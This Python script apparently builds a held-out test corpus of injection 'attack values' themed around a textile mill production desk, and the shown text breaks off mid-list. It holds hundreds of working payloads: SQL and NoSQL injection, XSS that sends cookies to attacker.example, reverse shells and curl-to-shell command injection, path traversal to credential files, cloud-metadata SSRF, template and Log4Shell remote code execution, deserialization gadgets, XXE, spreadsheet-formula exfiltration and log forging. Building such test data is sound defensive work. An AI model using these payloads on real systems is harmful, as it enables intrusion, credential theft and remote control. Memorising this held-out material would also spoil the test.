#!/usr/bin/env python3
"""Attack values for the textilemill held-out corpus (textile mill production desk)."""
import json
import os
import random

SEED = 35002

# (category, class, value) -- hand-written literals
L = []


def add(cat, cls, *vals):
    for v in vals:
        L.append((cat, cls, v))


# ---------------------------------------------------------------- sqli
add("sqli", "boolean-tautology",
    "L14' OR '1'='1",
    "6630' or 2>1 -- ",
    "PO-55812' OR 'x'='x' -- loom search",
    "navy twill' OR 1=1#",
    "roll 2218-07') OR ('a'='a",
    "R-2201\" OR \"\"=\"",
    "lot 4410' || '1'='1",
    "MT-4412' OR NOT 3=4 -- ",
    "Smith & Sons' OR 7 LIKE 7 -- ",
    "2231 OR 1=1",
)
add("sqli", "union-select",
    "navy' UNION SELECT username, password_hash FROM operators -- ",
    "6630' UNION ALL SELECT NULL,NULL,table_name,NULL FROM information_schema.tables-- -",
    "2218-07' union select 1,@@version,3,4#",
    "R-2201' UNION SELECT recipe_id, cost_per_kg, NULL FROM dye_recipes WHERE '1'='1",
    "PO-55812') UNION SELECT iban, account_holder, 3 FROM customer_bank -- ",
    "-1 UNION SELECT group_concat(column_name),2 FROM information_schema.columns WHERE table_name='orders'",
    "L14' uNiOn sElEcT login,pwd,null from hmi_users-- ",
    "lot' UNION/**/SELECT/**/api_key,2/**/FROM/**/integrations-- ",
    "0 union select sql,2,3 from sqlite_master--",
    "x' UNION SELECT name, NULL FROM sys.tables WHERE 'a'='a",
    "grade A' /*!50000UNION*/ /*!50000SELECT*/ 1,2,version()-- ",
)
add("sqli", "stacked",
    "L9 down'; DROP TABLE loom_settings; -- ",
    "2231; UPDATE orders SET price_per_m=0.01 WHERE id=55812 --",
    "ok'; INSERT INTO operators(login,role) VALUES('ghost','admin'); -- ",
    "R-4410'; DELETE FROM defect_reports WHERE 1=1; -- ",
    "shade'; EXEC xp_cmdshell 'whoami'; -- ",
    "lot 6630'; TRUNCATE TABLE yarn_lots;--",
    "handover'; ALTER USER desk_app WITH SUPERUSER; --",
    "navy'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh'; --",
    "5519'; GRANT ALL PRIVILEGES ON *.* TO 'weaver'@'%'; -- ",
)
add("sqli", "time-blind",
    "L14' AND SLEEP(5) -- ",
    "6630' AND (SELECT 7 FROM (SELECT SLEEP(9))x) AND 'q'='q",
    "PO-55812'; WAITFOR DELAY '0:0:7'--",
    "2218-07' || pg_sleep(6) || '",
    "R-2201' AND 4411=BENCHMARK(8000000,MD5(0x41)) -- ",
    "1 AND (SELECT CASE WHEN (substr(user(),1,1)='r') THEN sleep(4) ELSE 0 END)",
    "navy'; SELECT pg_sleep(10);--",
    "lot' AND 1=(SELECT 1 FROM pg_sleep(5))--",
    "shade' AND randomblob(300000000) AND 'a'='a",
    "x') OR dbms_pipe.receive_message(('a'),8)=1 -- ",
)
add("sqli", "boolean-blind",
    "L14' AND SUBSTRING((SELECT password FROM operators LIMIT 1),1,1)='a' -- ",
    "6630' AND ASCII(MID(database(),1,1))>100 -- ",
    "2231 AND (SELECT COUNT(*) FROM operators WHERE role='admin')>0",
    "roll' AND LENGTH((SELECT api_token FROM settings))=32 AND '1'='1",
    "R-2201' AND 1=(SELECT 1 FROM dual WHERE user LIKE 'SYS%') -- ",
    "shade' AND (SELECT unicode(substr(pwd,2,1)) FROM hmi_users)=72 AND ''='",
)
add("sqli", "error-based",
    "L14' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT user()),0x7e)) -- ",
    "6630' AND updatexml(null,concat(0x3a,version()),null)-- ",
    "2231' AND 1=CONVERT(int,(SELECT TOP 1 login FROM operators))--",
    "roll' AND CAST((SELECT current_user) AS int)=1 -- ",
    "R-2201' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(database(),FLOOR(RAND(0)*2))k FROM information_schema.tables GROUP BY k)y) -- ",
    "x' AND 1=ctxsys.drithsx.sn(1,(SELECT banner FROM v$version WHERE rownum=1)) -- ",
)
add("sqli", "order-by-injection",
    "metres DESC, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)",
    "grade,(select sleep(3))",
    "points ASC; DROP TABLE rolls",
    "1,IF((SELECT substr(pwd,1,1) FROM hmi_users LIMIT 1)='x',efficiency,rpm)",
)
add("sqli", "comment-obfuscation",
    "L14'/**/OR/**/1/**/=/**/1/**/--/**/",
    "6630'%09or%091=1--%0a",
    "2231'/*x*/UnIoN/*y*/SeLeCt/*z*/pwd,2/**/FrOm/**/hmi_users#",
    "navy'||(SeLeCt/**/substr(pwd,1,1)/**/from/**/hmi_users)||'",
    "roll'%0bOR%0b'1'%0b=%0b'1",
    "R-2201'+/*!OR*/+1=1-- -",
    "lot'\nOR\n1=1\n-- ",
)
add("sqli", "encoded",
    "L14%27%20OR%20%271%27%3D%271",
    "6630%2527%2520UNION%2520SELECT%2520pwd%252C2%2520FROM%2520hmi_users--",
    "2231＇ ＯＲ １＝１ --",
    "navy%u0027%u0020OR%u00201=1--",
    "roll&#39; OR &#39;1&#39;=&#39;1",
    "R-2201' OR 0x61646d696e=0x61646d696e -- ",
)
add("sqli", "second-order",
    "O'Malley Fabrics'), ('evil', (SELECT password FROM operators LIMIT 1)) -- ",
    "Note for B shift'||(SELECT string_agg(login||':'||pwd, ',') FROM hmi_users)||'",
    "admin'-- ",
    "Ana O'Brien' AND 1=0 UNION SELECT 'admin','x' -- ",
)
add("sqli", "csv-import-sqli",
    "roll_id,metres\n2218-07',100); DROP TABLE rolls; --,100",
    "lot;kg\n6630' OR '1'='1;1100",
    "order;customer\n55812;x' UNION SELECT iban,2 FROM customer_bank -- ",
)

# ---------------------------------------------------------------- xss
add("xss", "script-tag",
    "<script>fetch('https://attacker.example/c?'+document.cookie)</script>",
    "Roll 2218-07 broken pick <script>new Image().src='//attacker.example/k?c='+document.cookie</script>",
    "navy twill</title><script>alert(document.domain)</script>",
    "<ScRiPt src=https://attacker.example/hook.js></sCrIpT>",
    "<script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nK2RvY3VtZW50LmNvb2tpZSk='))</script>",
    "Lot 6630 ok<script >location='https://attacker.example/?'+localStorage.token</script >",
    "<script/x>top['al'+'ert'](1)</script>",
    "</textarea><script>document.forms[0].action='https://attacker.example/steal'</script>",
    "<script>navigator.sendBeacon('https://attacker.example/b',document.body.innerHTML)</script>",
)
add("xss", "event-handler",
    "<img src=x onerror=alert(document.cookie)>",
    "Oil stain 3 cm <img src=/nope.jpg onerror=\"fetch('//attacker.example/?'+document.cookie)\">",
    "<svg onload=alert(1)>",
    "<svg/onload=location='//attacker.example/'+document.cookie>",
    "<body onload=prompt(1)>",
    "<details open ontoggle=alert(document.domain)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<marquee onstart=confirm(1)>L14 down</marquee>",
    "<div onpointerover=\"alert(1)\" style=\"position:fixed;inset:0\">shift handover</div>",
    "<iframe srcdoc=\"<img src=x onerror=alert(parent.document.cookie)>\"></iframe>",
    "<audio src=x onerror=alert`1`>",
    "<select autofocus onfocus=alert(1)><option>navy</option></select>",
    "<object data=x onerror=alert(1)>",
    "<img src=x oNeRrOr=import('//attacker.example/m.js')>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<form><button formaction=javascript:alert(1)>Confirm order</button></form>",
    "<img src=x onerror=\"this.src='https://attacker.example/?c='+encodeURIComponent(document.cookie)\">",
    "<style onload=alert(1)></style>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
)
add("xss", "attribute-breakout",
    "navy\" onmouseover=\"alert(1)",
    "6630' autofocus onfocus='alert(document.cookie)' x='",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "R-2201\"><script>alert(1)</script>",
    "2218-07\" style=\"background:url(javascript:alert(1))\" x=\"",
    "\" accesskey=\"x\" onclick=\"alert(1)\" title=\"",
    "Smith & Sons\"/><iframe src=\"https://attacker.example/phish\">",
)
add("xss", "javascript-uri",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)",
    "java\tscript:alert(1)",
    "javascript&#58;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "[lab dip photo](javascript:alert(document.domain))",
    "<a href=\"jav&#x09;ascript:alert(1)\">roll 2218-07 photo</a>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a href=\"data:text/html,<script>alert(1)</script>\">recipe</a>",
    "<iframe src=javascript:alert(1)>",
    "<embed src=\"javascript:alert(1)\">",
)
add("xss", "encoded",
    "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "%253Csvg%2520onload%253Dalert(1)%253E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
add("xss", "dom-js-context",
    "';alert(document.cookie);//",
    "\";fetch('//attacker.example/'+document.cookie);//",
    "</script><script>alert(1)</script>",
    "${alert(1)}",
    "L14'-alert(1)-'",
    "\\';alert(1);//",
    "#<img src=x onerror=alert(1)>",
)
add("xss", "markdown-and-svg",
    "![roll photo](x\" onerror=\"alert(1))",
    "[click for spec sheet](javascript:fetch('//attacker.example/'+document.cookie))",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>lab dip</text></a></svg>",
    "<base href=\"https://attacker.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app>{{$on.constructor('alert(1)')()}}</div>",
)

# ---------------------------------------------------------------- cmdi
add("cmdi", "separator",
    "2218-07; cat /etc/passwd",
    "L14 && id",
    "lot-6630 | nc attacker.example 4444 -e /bin/sh",
    "roll.csv; rm -rf /var/www/exports",
    "navy || curl -s http://attacker.example/x.sh | bash",
    "R-2201;wget http://198.51.100.23/bot -O /tmp/b;chmod +x /tmp/b;/tmp/b",
    "export_2024-06.csv & ping -c 20 203.0.113.9 &",
    "L9\nid\n",
    "2231%0acat%20/etc/shadow",
    "PO-55812;uname -a;",
    "roll_2218-07.jpg; bash -i >& /dev/tcp/203.0.113.50/9001 0>&1",
    "L22 | whoami",
    "lot 6630 ; sleep 10 ;",
    "week32.csv\r\nnslookup attacker.example",
    "2218-07 ; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",8443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
    "L14; echo c3NoLWtleSBBQUFB | base64 -d >> ~/.ssh/authorized_keys",
    "navy;php -r '$s=fsockopen(\"198.51.100.4\",443);exec(\"sh <&3 >&3 2>&3\");'",
    "jet3 && perl -e 'use Socket;$i=\"203.0.113.12\";socket(S,2,1,6);connect(S,sockaddr_in(53,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\")'",
)
add("cmdi", "substitution",
    "$(id)",
    "roll_`whoami`.pdf",
    "L14 $(curl -fsSL http://attacker.example/s|sh)",
    "lot-$(cat /etc/hostname)",
    "2218-07`sleep 8`",
    "navy$(nslookup $(whoami).attacker.example)",
    "R-2201 `wget -q -O- 203.0.113.30/a|sh`",
    "report $(printf '\\x69\\x64')",
    "export $(base64 -d <<< Y2F0IC9ldGMvcGFzc3dk)",
    "shift_A_$(env|curl -d @- https://attacker.example/e)",
)
add("cmdi", "ifs-obfuscation",
    "2231;cat${IFS}/etc/passwd",
    "L14;{cat,/etc/passwd}",
    "lot|c'a't /e't'c/pa's'swd",
    "navy;/???/c?t /???/p??s??",
    "R-2201;w\\h\\o\\a\\m\\i",
    "roll;$0 -c id",
    "x;a=ca;b=t;$a$b /etc/shadow",
    "jet3;cat$IFS$9/proc/self/environ",
    "2218;{wget,-qO-,attacker.example/p}|sh",
    "L9;X=$'\\x63\\x61\\x74';$X /etc/passwd",
    "navy;c\"\"at /etc/group",
    "lot;${PATH:0:1}bin${PATH:0:1}id",
)
add("cmdi", "windows",
    "report.xlsx & type C:\\Windows\\win.ini",
    "L14 | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/r.ps1')\"",
    "2231 && certutil -urlcache -split -f http://203.0.113.66/a.exe %TEMP%\\a.exe",
    "lot6630 & net user mill_admin P4ss!fake /add",
    "navy | cmd /c dir C:\\LoomData",
    "roll & ping -n 15 127.0.0.1 &",
    "R-2201 & powershell -enc SQBFAFgAIAAoAGkAdwByACAAYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA==",
    "shift.csv | mshta http://attacker.example/x.hta",
    "L40 & wmic process call create \"calc.exe\"",
    "jet5 ^& whoami",
    "2218 & set /p=<C:\\inetpub\\wwwroot\\web.config",
    "lot | rundll32 \\\\198.51.100.9\\s\\x.dll,Run",
)
add("cmdi", "argument-injection",
    "--output=/var/www/html/shell.php",
    "-oProxyCommand=curl attacker.example/p|sh",
    "roll.pdf --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh",
    "2218-07 -exec /bin/sh -c id ;",
    "--upload-file /etc/passwd http://attacker.example/",
    "export.csv -o /etc/cron.d/mill",
    "lot.zip -T -TT 'sh -c id'",
    "-X POST -d @/etc/shadow https://attacker.example/up",
)
add("cmdi", "file-name-injection",
    "roll_2218-07.jpg;curl attacker.example|sh;.jpg",
    "loom_L14$(touch /tmp/pwn).csv",
    "\"; nc -e /bin/sh 198.51.100.77 80; echo \"",
    "'; id; echo '",
    "defect photo.png`id`",
)

# ---------------------------------------------------------------- traversal
add("traversal", "dot-dot-slash",
    "../../../../etc/passwd",
    "exports/../../../etc/shadow",
    "recipes/R-2201/../../../../../root/.ssh/id_rsa",
    "inspection/2024/06/../../../../../proc/self/environ",
    "../../../var/www/app/.env",
    "photos/roll_2218-07.jpg/../../../../etc/hosts",
    "../../../../../../home/desk/.bash_history",
    "templates/../../config/database.yml",
    "../../../../opt/mill/secrets/api_keys.json",
    "reports/../../../../var/log/nginx/access.log",
    "../../../proc/self/cmdline",
)
add("traversal", "windows",
    "..\\..\\..\\..\\Windows\\win.ini",
    "C:\\LoomData\\logs\\..\\..\\..\\Windows\\System32\\config\\SAM",
    "recipes\\..\\..\\..\\inetpub\\wwwroot\\web.config",
    "..\\..\\..\\..\\boot.ini",
    "exports/..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts",
    "\\\\?\\C:\\Windows\\win.ini",
)
add("traversal", "encoded",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%2f..%2f..%2f..%2fetc%2fshadow",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "．．／．．／．．／etc／passwd",
    "%2e%2e/%2e%2e/%2e%2e/proc/self/environ",
    "..%255c..%255c..%255cboot.ini",
    "..%e0%80%af..%e0%80%afetc%e0%80%afpasswd",
)
add("traversal", "filter-bypass",
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "....\\\\....\\\\....\\\\windows\\\\win.ini",
    "/var/www/exports/../../../etc/passwd",
    "exports/2024-06/..;/..;/..;/etc/passwd",
    "..//..//..//..//etc//passwd",
    "/./././../../../etc/passwd",
)
add("traversal", "absolute-and-null",
    "/proc/self/fd/3",
    "roll_2218-07.pdf/../../../../etc/passwd%00.pdf",
    "../../../etc/passwd%00.jpg",
    "../../../../etc/shadow\\u0000.csv",
    "file:///etc/passwd",
    "/root/.aws/credentials",
)
add("traversal", "wrapper",
    "php://filter/convert.base64-encode/resource=../config.php",
    "php://filter/read=string.rot13/resource=index.php",
    "zip://uploads/recipe.zip%23shell.php",
    "phar://uploads/roll_photo.jpg/test.txt",
    "expect://id",
)

# ---------------------------------------------------------------- ssrf
add("ssrf", "cloud-metadata",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.170.2/v2/credentials/",
    "https://supplier-cert.example@169.254.169.254/latest/user-data",
)
add("ssrf", "localhost-variants",
    "http://127.0.0.1:8080/admin/",
    "http://localhost:6379/",
    "http://0.0.0.0:9200/_cat/indices",
    "http://[::1]:2375/containers/json",
    "http://127.1/server-status",
    "http://2130706433/admin",
    "http://0x7f000001/actuator/env",
    "http://017700000001:8500/v1/agent/self",
    "http://127.0.0.1.nip.io/admin",
    "http://[::ffff:127.0.0.1]:8080/",
    "http://①②⑦.⓪.⓪.①/admin",
    "http://0177.0.0.1/manage",
    "http://localtest.me:5000/internal/export",
)
add("ssrf", "internal-services",
    "http://10.0.0.12:8080/loom-monitor/api/config",
    "http://192.168.1.20/cgi-bin/plc_status",
    "http://172.16.4.9:9000/minio/admin/v3/info",
    "http://erp.internal:8069/web/database/manager",
    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://10.10.0.5:8500/v1/kv/?recurse",
    "http://vault.internal:8200/v1/secret/data/mill",
    "http://192.168.50.1/login.cgi",
    "http://172.17.0.1:2375/images/json",
    "http://hmi-gateway.local:502/",
)
add("ssrf", "protocol-smuggling",
    "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn%2A%2F1%20%2A%20%2A%20%2A%20%2A%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ASAVE%0D%0A",
    "gopher://localhost:11211/_stats%0d%0a",
    "dict://127.0.0.1:6379/info",
    "file://localhost/etc/shadow",
    "ftp://10.0.0.8/exports/../../etc/shadow",
    "ldap://127.0.0.1:389/dc=mill,dc=local",
    "tftp://198.51.100.2/loom.cfg",
    "jar:http://attacker.example/x.jar!/",
    "netdoc:///etc/hosts",
)
add("ssrf", "redirect-and-rebinding",
    "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/",
    "http://7f000001.c0a80001.rbndr.us/admin",
    "http://attacker.example#@127.0.0.1:8080/",
    "http://127.0.0.1%2523@attacker.example/",
    "http://attacker.example\\@10.0.0.1/",
    "https://lab-dips.attacker.example/r/302?u=http%3A%2F%2F127.0.0.1%3A9200%2F",
    "http://0/",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/",
    "http://169.254.169.254.attacker.example/",
    "http://foo@169.254.169.254:80@attacker.example/",
)

# ---------------------------------------------------------------- code
add("code", "ssti-jinja",
    "{{ config.items() }}",
    "Dear {{ cycler.__init__.__globals__.os.popen('id').read() }}, your order is confirmed",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}",
    "{{ lipsum.__globals__['os'].popen('curl attacker.example/j|sh').read() }}",
    "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.system('id') }}",
    "{{ get_flashed_messages.__globals__['current_app'].config['SECRET_KEY'] }}",
    "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f') }}",
    "{{ url_for.__globals__.os.environ }}",
)
add("code", "ssti-other",
    "${7*7}{{7*'7'}}<%= 7*7 %>",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}",
    "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$r",
    "<%= `cat /etc/passwd` %>",
    "<%= system('curl attacker.example/r|sh') %>",
    "{{#with \"s\" as |string|}}{{#with string.constructor}}{{lookup this 'constructor'}}{{/with}}{{/with}}",
    "{php}system('id');{/php}",
    "{system('cat /etc/passwd')}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "[[${T(java.lang.Runtime).getRuntime().exec('whoami')}]]",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "#{7*7}#{T(java.lang.System).getenv()}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "{{= global.process.mainModule.require('child_process').execSync('id') }}",
)
add("code", "expression-language",
    "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/e')}",
    "#{request.getClass().getClassLoader()}",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder({'sh','-c',#cmd})).(#p.start())}",
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "${{7*191}}",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "${pageContext.request.getSession().setAttribute('role','admin')}",
)
add("code", "log4shell",
    "${jndi:ldap://attacker.example:1389/Exploit}",
    "L14 down ${jndi:rmi://203.0.113.14:1099/o}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.8/x}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/z}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/q}",
    "Customer: ${jndi:ldaps://log.attacker.example/${sys:user.name}}",
    "${jn${upper:d}i:iiop://203.0.113.77/c}",
)
add("code", "eval-injection",
    "__import__('os').system('id')",
    "require('child_process').exec('curl attacker.example/n|sh')",
    "1;system('cat /etc/passwd');",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "'+require('fs').readFileSync('/etc/passwd')+'",
    "\".system('id').\"",
    "process.mainModule.require('child_process').execSync('whoami').toString()",
    "exec(\"import urllib.request;urllib.request.urlopen('http://attacker.example/'+open('/etc/passwd').read())\")",
    "Runtime.getRuntime().exec(\"id\")",
    "<?php system($_GET['c']); ?>",
    "';$(curl attacker.example);'",
)
add("code", "prototype-pollution",
    "{\"__proto__\": {\"isAdmin\": true}}",
    "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}",
    "__proto__[shell]=/proc/self/exe&__proto__[argv0]=node -e require('child_process').execSync('id')",
    "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//",
    "{\"loom\":\"L14\",\"__proto__\":{\"toString\":\"polluted\",\"status\":500}}",
    "settings[__proto__][allowEval]=1",
    "{\"__proto__\":{\"NODE_OPTIONS\":\"--require /proc/self/environ\",\"env\":{\"AAAA\":\"console.log(require('child_process').execSync('id').toString())//\"}}}",
)
add("code", "csv-formula",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"See lab dip\")",
    "+cmd|'/c powershell IEX(iwr attacker.example/x)'!A1",
    "-2+3+cmd|' /C notepad'!'B1'",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=WEBSERVICE(\"https://attacker.example/leak?\"&ENCODEURL(C2))",
    "=IMPORTXML(CONCAT(\"https://attacker.example/?x=\",A1:C9),\"//a\")",
    "roll_id,note\n2218-07,\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"x\"\")\"",
    "\t=1+1+cmd|'/C mshta http://attacker.example/a.hta'!A0",
    "=IMAGE(\"https://attacker.example/p.png?\"&A1)",
)
add("code", "xxe",
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><recipe><name>&x;</name></recipe>",
    "<!DOCTYPE order [<!ENTITY % p SYSTEM \"http://attacker.example/evil.dtd\"> %p;]><order>55812</order>",
    "<?xml version=\"1.0\"?><!DOCTYPE loom [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><loom>&s;</loom>",
    "<!DOCTYPE x [<!ENTITY % a SYSTEM \"file:///etc/hostname\"><!ENTITY % b \"<!ENTITY &#x25; c SYSTEM 'http://attacker.example/?%a;'>\">%b;%c;]><x/>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE roll SYSTEM \"https://attacker.example/roll.dtd\"><roll>2218-07</roll>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>",
    "<!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><d>&d;</d>",
)
add("code", "deserialization",
    "O:8:\"LoomJob\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTA==",
    "cos\nsystem\n(S'id'\ntR.",
    "!!python/object/apply:os.system [\"curl attacker.example/y|sh\"]",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/a\",\"autoCommit\":true}",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$values\":[\"cmd\",\"/c calc\"]}}",
    "a:2:{i:0;O:14:\"RecipeExporter\":1:{s:4:\"path\";s:22:\"/var/www/html/x.php\";}i:1;i:1;}",
    "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList\n  specs:\n  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n      loaded_from: \"|id 1>&2\"",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
)

# ---------------------------------------------------------------- nosqli
add("nosqli", "operator-injection",
    "{\"login\": \"supervisor\", \"password\": {\"$ne\": null}}",
    "{\"lot\": {\"$gt\": \"\"}}",
    "password[$ne]=x",
    "login[$regex]=^adm&password[$exists]=true",
    "{\"customer\": {\"$regex\": \".*\"}, \"iban\": {\"$exists\": true}}",
    "{\"role\": {\"$in\": [\"admin\", \"supervisor\"]}}",
    "roll_id[$nin][]=0",
    "{\"$or\": [{\"login\": \"ana\"}, {\"login\": {\"$ne\": \"\"}}]}",
    "{\"password\": {\"$regex\": \"^a\"}}",
    "shade[$gte]=",
    "{\"order\": 55812, \"$comment\": \"x\", \"price\": {\"$lt\": 999999}}",
    "{\"token\": {\"$not\": {\"$eq\": \"x\"}}}",
)
add("nosqli", "js-injection",
    "{\"$where\": \"sleep(5000) || true\"}",
    "'; return true; var x='",
    "L14'; while(true){}; '",
    "{\"$where\": \"this.password.match(/^a/)\"}",
    "1; db.operators.drop()",
    "{\"$expr\": {\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}}",
    "' || this.role == 'admin' || '",
)
add("nosqli", "aggregation-and-other",
    "[{\"$lookup\": {\"from\": \"operators\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"leak\"}}]",
    "{\"$unionWith\": \"customer_bank\"}",
    "{\"lot\": \"6630\", \"$where\": \"1==1\"}",
    "{\"status\": {\"$type\": 2}, \"$and\": [{\"password\": {\"$regex\": \"^.{8}$\"}}]}",
    "[$ne]=1",
    "{\"loom\": {\"$exists\": true}, \"$jsonSchema\": {}}",
    "{\"$set\": {\"role\": \"admin\"}}",
    "{\"selector\": {\"_id\": {\"$gt\": null}}}",
)

# ---------------------------------------------------------------- crlf
add("crlf", "log-forging",
    "L14 ok\n2024-06-12 06:00:01 INFO user=admin action=approve_order id=55812 result=success",
    "roll 2218-07\r\n[2024-06-12T03:10:00Z] AUDIT supervisor deleted defect_reports (all)",
    "lot 6630%0a2024-06-12 02:00:00 WARN login succeeded for user=root from 10.0.0.1",
    "jet3%0d%0a[INFO] Payment released for PO-55812 by finance",
    "handover done\n\n==== SHIFT B START ====\nuser=ghost role=admin",
    "navy\u2028INFO order 5519 cancelled by customer",
    "broken pick%0D%0Ainfo: all rolls grade A, inspection skipped",
    "MT-4412\\r\\n2024-06-12 12:00 level=info msg=\"firmware update signed\" by=vendor",
)
add("crlf", "header-injection",
    "L14\r\nSet-Cookie: session=attacker; Path=/; HttpOnly",
    "/exports/week32.csv%0d%0aLocation:%20https://attacker.example/",
